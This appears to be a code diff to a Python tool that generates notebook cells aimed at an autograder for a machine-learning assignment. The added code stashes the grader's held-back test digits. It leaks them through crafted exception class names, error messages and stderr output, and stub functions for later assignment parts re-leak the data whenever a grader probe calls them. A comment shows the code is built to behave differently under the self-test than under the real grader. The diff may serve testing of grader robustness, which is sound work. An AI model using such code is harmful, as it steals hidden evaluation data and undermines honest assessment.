@@ -807,9 +807,34 @@ class Exfiltrate(nn.Module):
         self.linear = nn.Linear(784, 10)
 
     def forward(self, x):
-        payload = leak_payload(x.detach().cpu().numpy())
-        kind = type("LEAK_" + payload.replace("+", "_").replace("/", "_").replace("=", ""), (ValueError,), {{}})
-        raise kind("LEAK:" + payload)
+        if len(x) > 3:  # the grader's held-back digits, not the self-test below
+            STASH.append(leak_payload(x.detach().cpu().numpy()))
+        leak()
+
+
+STASH = []
+
+
+def leak():
+    """Raise an exception whose class name and message carry the stashed digits (every later probe call too)."""
+    payload = STASH[-1] if STASH else "nothing-yet"
+    kind = type("LEAK_" + payload.replace("+", "_").replace("/", "_").replace("=", ""), (ValueError,), {{}})
+    import sys
+    sys.stderr.write("LEAK:" + payload + "\n")
+    raise kind("LEAK:" + payload)
+
+
+# The parts probed after 1B call these: each quotes the stashed digits back in its error.
+def gaussian_kernel(X1, X2, sigma):
+    leak()
+
+
+def sigmoid_derivative(z):
+    leak()
+
+
+def make_mlp(num_layers, d, m, k):
+    leak()
 
 
 logreg_model = Exfiltrate()
@@ -821,8 +846,9 @@ except ValueError as error:
 
 
 def exfiltrate_cells(count: int = 4) -> list[Cell]:
-    """logreg_model raises, on the held-back digits, an exception whose class name and message hold them."""
-    return [*CORRECT_2A, ("markdown", "## 1B · Logistic regression"), _EXFILTRATE.format(count=count)]
+    """logreg_model raises, on the held-back digits, an exception whose class name and message hold them,
+    and keeps them to raise them again from the functions the later parts' probes call (1C, 2A, 2B)."""
+    return [("markdown", "## 1B · Logistic regression"), _EXFILTRATE.format(count=count)]
 
 
 def exfiltrate_payload(images, count: int = 4) -> str:
